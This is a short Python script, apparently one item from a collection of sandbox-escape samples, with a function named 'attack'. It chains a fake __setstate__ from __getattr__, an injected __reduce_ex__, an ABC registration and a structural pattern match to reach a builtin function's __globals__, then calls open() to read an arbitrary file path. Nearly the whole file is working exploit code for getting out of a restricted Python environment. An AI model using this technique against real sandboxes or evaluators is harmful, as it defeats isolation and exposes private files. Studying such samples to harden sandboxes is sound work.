# `__getattr__` makes up a `__setstate__`, which is handed the dict itself.
# after: read
# source: own
import copy
import json
from abc import ABC
class U(ABC): pass
caught = []
class A:
    def __getattr__(self, name):
        if name == "__setstate__":
            return caught.append
        raise AttributeError(name)
def attack(path, **_):
    a = A()
    a.x = 1
    copy.copy(a)
    caught[0]["__reduce_ex__"] = lambda p: (lambda: U, (), (None, {"__match_args__": ("__globals__",)}))
    copy.deepcopy(a)
    U.register(type(json.loads))
    match json.loads:
        case U(found):
            return {"text": found["__builtins__"]["open"](path).read()}
